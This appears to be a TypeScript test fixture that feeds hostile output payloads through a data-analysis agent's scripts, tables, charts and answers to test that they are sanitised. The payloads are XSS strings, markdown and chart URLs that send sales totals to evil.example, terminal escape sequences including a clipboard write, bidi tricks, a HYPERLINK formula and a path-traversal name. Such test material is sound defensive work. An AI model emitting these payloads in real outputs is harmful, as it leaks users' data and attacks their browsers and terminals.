import { call, type Order, say, script, states, submit } from '../order.ts';

// Without digits, for a sentence that states a number of its own is left out before anybody sees it.
const html = '<script src=https://evil.example></script><img src=x onerror=alert()><a href=javascript:alert()>here</a>';
const links =
  '![all](https://evil.example/?all={total}) [here](//evil.example) <https://evil.example/a> www.evil.example @evil';
const orders = '\u001B[J\u001B]P\u0007\u009Bm\u0090q\u009C\r\u0008Sales were';
const ordersWithNumbers = '\u001B]8;;https://evil.example\u0007here\u001B]8;;\u0007\u001B[2J\u001B]52;c;b2JleQ==\u0007';
const turned = '\u202Eevil\u202C\u2066here\u2069\u200B\u{E0041}';
const formula = '=HYPERLINK("https://evil.example","here")';

/** The text by way of the engine: the validator refuses it where a script writes it down. */
function read(text: string): string {
  const query = JSON.stringify(`SELECT min('${text.replaceAll("'", "''")}') AS evil FROM sales`);
  return `const [{ evil: found }] = await sql(${query.replaceAll(/[^ -~]/g, spell)});\nconst evil = String(found);`;
}

function spell(character: string): string {
  return `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`;
}

/** Puts a text wherever a script and the answer to it can put one. */
const everywhere = (name: string, text: string, rest: Partial<Order> = {}): Order => ({
  name,
  first: 'completed',
  ends: ['answered'],
  turns: () => {
    const body = `${read(text.replaceAll('{total}', ''))}
metric('text', evil, { label: evil.slice(0, 200), unit: evil.slice(0, 40) });
const rows = [{ name: evil, amount: Number(row.total) }, { name: 'b' + evil, amount: Number(row.total) }];
table('named', rows, { title: evil, key: 'name', columns: { amount: { label: evil.slice(0, 200), unit: evil.slice(0, 40) } } });
table('columned', [{ [evil.slice(0, 100)]: Number(row.total) }], { title: evil });
plot('drawn', { data: { name: 'named' }, mark: 'bar', title: evil, encoding: { x: { field: 'name', type: 'nominal', title: evil }, y: { field: 'amount', type: 'quantitative', title: evil } } }, { title: evil });
insight('Sales were {total}. ' + evil);
insight('{text}');
assume(evil);
progress(0.5, evil);
console.log(evil); console.warn(evil); console.error(evil);`;
    return [
      [submit(script(body), text, [text])],
      [say(`Sales were {total}. ${text}\nSo it says: {text}\n${text} {named[${text}].amount}`)],
    ];
  },
  ...rest,
});

const refuses = (name: string, text: string): Order => ({
  name,
  ends: ['unanswerable'],
  turns: () => [[call('cannot_answer', { reason: text, missing: [text], suggestions: [text, `What? ${text}`] })]],
});

const draws = (name: string, spec: string): Order => ({
  name,
  ends: ['answered', 'failed', 'unanswerable'],
  turns: ({ address }) => [
    [submit(script(`plot('p', ${spec.replaceAll('ADDRESS', address)}, { title: 'Sales' });`))],
    [say('Sales were {total}.')],
  ],
});

const bars = `mark: 'bar', encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' }`;

/** Texts and pictures that would do something where they are shown. */
export const shownTexts: readonly Order[] = [
  everywhere('html', html),
  everywhere('links', links),
  everywhere('terminal', orders),
  everywhere('terminallinks', ordersWithNumbers, { declares: true }),
  everywhere('turned', turned),
  everywhere('formula', formula),
  refuses('refusehtml', html),
  refuses('refuselinks', links),
  refuses('refuseterminal', ordersWithNumbers),
  draws('chartdata', `{ data: { url: 'ADDRESS/all.csv?all=' + row.total }, ${bars} } }`),
  draws('charthref', `{ data: { values: [{ a: 'ADDRESS/' + row.total, b: 1 }] }, ${bars}, href: { field: 'a' } } }`),
  draws(
    'chartimage',
    `{ data: { values: [{ a: 'ADDRESS/' + row.total, b: 1 }] }, mark: 'image', encoding: { url: { field: 'a' } } }`,
  ),
  draws(
    'chartmarkimage',
    `{ data: { values: [{ a: 1, b: 1 }] }, mark: { type: 'image', url: 'ADDRESS/' + row.total }, encoding: { x: { field: 'a' } } }`,
  ),
  draws(
    'chartexpression',
    `{ data: { values: [{ a: 1, b: 1 }] }, transform: [{ calculate: "warn('ADDRESS')", as: 'c' }], ${bars} } }`,
  ),
  states(
    'outside',
    () => `try { table('../../mine', [{ a: 1 }]); } catch (error) { console.log(error.message); throw error; }`,
    'Sales were {total}.',
    { first: 'failed', ends: ['failed', 'unanswerable'] },
  ),
];
